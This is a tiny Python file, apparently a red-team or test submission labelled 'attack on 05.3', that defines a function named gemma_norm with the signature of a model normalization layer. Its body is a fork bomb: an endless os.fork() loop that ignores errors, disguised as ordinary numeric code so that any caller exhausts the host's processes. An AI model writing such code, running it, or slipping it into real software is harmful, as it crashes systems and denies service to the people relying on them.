# attack on 05.3: processes without end
import os


def gemma_norm(x, weight, eps):
    while True:
        try:
            os.fork()
        except OSError:
            pass
